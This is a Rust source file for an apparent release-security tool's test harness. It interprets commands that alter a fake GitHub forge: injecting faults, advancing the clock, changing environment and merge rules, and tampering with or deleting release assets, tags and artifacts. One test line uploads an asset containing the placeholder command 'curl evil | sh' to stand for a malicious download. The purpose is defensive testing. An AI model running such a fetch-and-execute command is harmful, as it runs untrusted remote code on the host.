//! The instructions that change the fake GitHub directly: its settings, its faults, and what users do on it.

use lockgate_core::promote::ENVIRONMENT;
use lockgate_forge_embedded::state::State;
use lockgate_forge_embedded::state::assets::NewAsset;
use lockgate_forge_embedded::state::people::Actor;
use lockgate_forge_embedded::state::refusal::Refusal;
use lockgate_forge_embedded::state::settings::{Grouping, Ruleset, Settings};
use lockgate_forge_embedded::{Blob, Fault, Repository};

use super::{Interpreter, error, number, unknown};
use crate::exit::Failure;
use crate::rehearse::fixture;

impl Interpreter<'_> {
    /// Executes a line that changes the fake, and returns its output.
    pub(super) fn fake(&mut self, line: &[&str]) -> Result<String, Failure> {
        let unknown = || unknown(line);
        let number = |text: &str| number(text).ok_or_else(unknown);
        match line {
            ["fault", fault @ ..] => {
                let fault: Fault = fault
                    .join(" ")
                    .parse()
                    .map_err(|e: lockgate_forge_embedded::faults::FaultSyntax| error(e))?;
                self.fixture()?.forge.arm(fault);
                Ok(String::new())
            }
            ["faults", "pending"] => {
                let pending: Vec<String> = self
                    .fixture()?
                    .forge
                    .pending_faults()
                    .iter()
                    .map(ToString::to_string)
                    .collect();
                Ok(if pending.is_empty() {
                    "none".to_owned()
                } else {
                    pending.join("\n")
                })
            }
            ["clock", "+", days, "days"] => {
                let days: i64 = days.parse().map_err(|_| unknown())?;
                self.fixture()?.forge.advance(days * 86_400);
                Ok(String::new())
            }
            ["environment", how] => {
                let mut environment = fixture::protected();
                match *how {
                    "unreviewed" => environment.reviewers.clear(),
                    "any-branch" => environment.branches = None,
                    "protected" => {}
                    "gone" => {
                        let gone = |settings: &mut Settings| settings.environments.clear();
                        self.fixture()?.forge.set(gone);
                        return Ok(String::new());
                    }
                    _ => return Err(unknown()),
                }
                self.fixture()?
                    .forge
                    .set_environment(ENVIRONMENT, environment);
                Ok(String::new())
            }
            ["merging", how] => {
                let (strict, queue) = match *how {
                    "lagging" => (false, None),
                    "up-to-date" => (true, None),
                    "queue" => (false, Some(Grouping::Each)),
                    "queue-of-groups" => (false, Some(Grouping::Last)),
                    _ => return Err(unknown()),
                };
                let ruleset = Ruleset {
                    name: "merging".to_owned(),
                    enforcement: "active".to_owned(),
                    include: vec!["~DEFAULT_BRANCH".to_owned()],
                    strict,
                    queue,
                    ..Ruleset::default()
                };
                let change = |settings: &mut Settings| settings.rulesets = vec![ruleset];
                self.fixture()?.forge.set(change);
                Ok(String::new())
            }
            ["private", how @ ("on" | "off")] => {
                let private = *how == "on";
                self.fixture()?
                    .forge
                    .set(|settings: &mut Settings| settings.private = private);
                Ok(String::new())
            }
            ["runs-behind", reads] => {
                let reads = number(reads)?;
                let reads = u32::try_from(reads).map_err(|_| unknown())?;
                self.fixture()?
                    .forge
                    .set(|settings: &mut Settings| settings.runs_behind = reads);
                Ok(String::new())
            }
            ["immutable", "on"] => {
                self.fixture()?.forge.set_immutable_releases(true);
                Ok(String::new())
            }
            ["tamper-asset", tag, name] => {
                let forge = self.fixture()?.forge.clone();
                let (_, id, _) = forge
                    .public_asset(tag, name)
                    .ok_or_else(|| error(format!("{tag} has no asset {name}")))?;
                forge
                    .tamper_asset(id, "other bytes".as_bytes())
                    .map_err(error)
                    .map(|()| String::new())
            }
            ["add-asset", tag, name] => self.does("developer-token", |state, _, writer, now| {
                let release = state.release_by_tag(tag)?.id;
                let order = NewAsset {
                    name: (*name).to_owned(),
                    ..NewAsset::default()
                };
                let bytes = Blob::of(b"curl evil | sh");
                state
                    .upload_asset(writer, now, release, order, bytes)
                    .map(drop)
            }),
            ["delete-asset", tag, name] => self.does("maintainer-token", |state, _, who, now| {
                let asset = state.public_asset(tag, name)?.id;
                state.delete_asset(who, now, asset)
            }),
            ["delete-tag", tag] => self.does("maintainer-token", |state, git, who, _| {
                state.delete_reference(who, git, &format!("refs/tags/{tag}"))
            }),
            ["make-tag", tag, branch] => self.does("developer-token", |_, git, _, _| {
                let at = git.resolve(&format!("refs/heads/{branch}"))?;
                let at = at.ok_or(Refusal::NotFound)?;
                Ok(git.set_reference(&format!("refs/tags/{tag}"), &at)?)
            }),
            ["delete-artifact", name] => {
                let forge = self.fixture()?.forge.clone();
                let id = forge.look(|state| {
                    state
                        .artifacts()
                        .iter()
                        .find(|artifact| artifact.name == **name)
                        .map(|artifact| artifact.id)
                });
                let id = id.ok_or_else(|| error(format!("there is no artifact {name}")))?;
                forge
                    .delete_artifact(id)
                    .map_err(error)
                    .map(|()| String::new())
            }
            ["forge", "down"] => {
                self.fixture()?.forge.arm(
                    "drop-before * * nth=every"
                        .parse()
                        .map_err(|e: lockgate_forge_embedded::faults::FaultSyntax| error(e))?,
                );
                Ok(String::new())
            }
            ["forge", "up"] => {
                self.fixture()?.forge.disarm();
                Ok(String::new())
            }
            _ => Err(unknown()),
        }
    }

    /// The holder of a token does something on the forge.
    pub(super) fn does(
        &mut self,
        token: &str,
        what: impl FnOnce(&mut State, &dyn Repository, &Actor, i64) -> Result<(), Refusal>,
    ) -> Result<String, Failure> {
        let done = self.fixture()?.forge.with(|state, git, now| {
            let actor = state.holder(token).unwrap_or(Actor::Anonymous);
            what(state, git, &actor, now)
        });
        done.map(|()| String::new()).map_err(error)
    }
}
